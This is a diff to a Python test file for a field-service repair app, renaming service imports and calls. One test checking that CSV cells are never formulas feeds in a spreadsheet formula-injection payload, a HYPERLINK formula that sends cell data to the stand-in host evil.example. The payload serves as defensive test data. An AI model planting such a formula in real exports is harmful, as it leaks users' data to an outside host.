@@ -13,8 +13,9 @@ from fieldapp.domain.deadlines import LIMA_TZ
 from fieldapp.domain.roles import Role
 from fieldapp.extensions import db
 from fieldapp.models.types import utcnow
-from fieldapp.services import review, statement, workshop
-from fieldapp.services.statement import StatementError
+from fieldapp.services.supervisor import approval, statement
+from fieldapp.services.supervisor.statement import StatementError
+from fieldapp.services.workshop import repairs
 from tests import factories
 from tests.services.review_helpers import close_job, doa_case
 
@@ -35,16 +36,16 @@ def closed(app):
     cases = []
     for service_number in ("T300002", "T300001", "C300003"):
         case = doa_case(service_number=service_number, model="ESP 3250")
-        review.approve(close_job(case, courier), boss)
+        approval.approve(close_job(case, courier), boss)
         cases.append(case)
     late = cases[0].deadlines[0]
     late.done_at = late.due_at + timedelta(hours=2)
     last_month = cases[2]
     last_month.closed_at = last_month.closed_at.replace(day=1) - timedelta(days=3)
     repaired = factories.case(service_number="C300004")
-    workshop.receive(repaired, tech, refilled=False)
-    workshop.repair_done(repaired, tech)
-    workshop.collect_at_counter(repaired, tech, "María Flores", "45678912", SIGNATURE)
+    repairs.receive(repaired, tech, refilled=False)
+    repairs.repair_done(repaired, tech)
+    repairs.collect_at_counter(repaired, tech, "María Flores", "45678912", SIGNATURE)
     doa_case(service_number="T300005")  # open
     db.session.commit()
     return cases[:2] + [repaired]
@@ -107,7 +108,7 @@ def test_csv_cells_are_never_formulas_and_a_closed_month_keeps_the_model_billed(
     boss = factories.user(Role.SUPERVISOR)
     formula = '=HYPERLINK("http://evil.example/?x="&A1,"Ver")'
     case = doa_case(service_number="T300010", model=formula)
-    review.approve(close_job(case, courier), boss)
+    approval.approve(close_job(case, courier), boss)
     db.session.commit()
     # A later case for the same unit writes another model into the unit's free text.
     factories.case(service_number="T300010", model="ESP 5250")
